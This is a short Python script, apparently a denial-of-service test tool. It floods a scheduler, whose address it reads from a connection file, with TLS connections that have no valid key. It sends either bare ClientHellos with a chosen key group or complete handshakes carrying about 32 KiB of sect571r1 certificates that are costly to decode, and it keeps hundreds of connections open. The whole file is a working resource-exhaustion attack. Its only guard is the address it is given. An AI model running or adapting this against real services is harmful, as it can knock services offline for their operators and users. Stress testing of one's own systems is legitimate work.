"""Connects to a scheduler without a valid key, as often as told, until it is killed:

strangers.py KIND CONNECTION_FILE TIMES_A_SECOND

KIND is the group of the key in a TLS hello (x25519, prime256v1, secp384r1), or `chains`: complete
handshakes with certificates that are expensive to decode."""
import collections
import json
import pathlib
import socket
import ssl
import subprocess
import sys
import tempfile
import time

OPEN_MAX = 256  # Connections that are kept open for the scheduler's answers.
MORE = 80  # Certificates besides the first: together nearly 32 KiB.


def hello_with(group):
    """The first message of a handshake."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    if group != "x25519":  # The default.
        context.set_ecdh_curve(group)
    output = ssl.MemoryBIO()
    session = context.wrap_bio(ssl.MemoryBIO(), output)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return output.read()


def chain_context():
    """A client with many certificates of itself."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with tempfile.TemporaryDirectory() as folder:
        # TLS 1.3 has no signatures with the expensive curve, so the first key is a usual one.
        own, own_certificate = make_key(folder, "prime256v1")
        _, other_certificate = make_key(folder, "sect571r1")
        chain = pathlib.Path(folder, "chain")
        chain.write_text(own_certificate.read_text() + other_certificate.read_text() * MORE)
        context.load_cert_chain(chain, own)
    return context


def make_key(folder, curve):
    key, certificate = pathlib.Path(folder, curve), pathlib.Path(folder, curve + "-certificate")
    subprocess.run(["openssl", "ecparam", "-name", curve, "-genkey", "-noout", "-out", key],
                   check=True)
    subprocess.run(["openssl", "req", "-x509", "-key", key, "-subj", "/CN=x", "-out", certificate],
                   check=True, stderr=subprocess.DEVNULL)
    return key, certificate


def address_in(connection_file):
    address = json.loads(pathlib.Path(connection_file).read_text())["addresses"][0]
    host, port = address.removeprefix("tcp://").rsplit(":", 1)
    return host, int(port)


def attack(kind, address, times_a_second):
    if kind == "chains":
        context = chain_context()

        def greet(peer):
            try:
                peer.settimeout(2)
                context.wrap_socket(peer).recv(1)
            except OSError:
                pass
    else:
        hello = hello_with(kind)

        def greet(peer):
            peer.sendall(hello)

    peers, due = collections.deque(), time.perf_counter()
    while True:
        try:
            peer = socket.create_connection(address, timeout=5)
            greet(peer)
            peers.append(peer)
        except OSError:  # The scheduler's queue is full.
            pass
        if len(peers) > OPEN_MAX:
            peers.popleft().close()
        due = max(due + 1 / times_a_second, time.perf_counter() - 0.1)
        time.sleep(max(0, due - time.perf_counter()))


if __name__ == "__main__":
    attack(sys.argv[1], address_in(sys.argv[2]), float(sys.argv[3]))
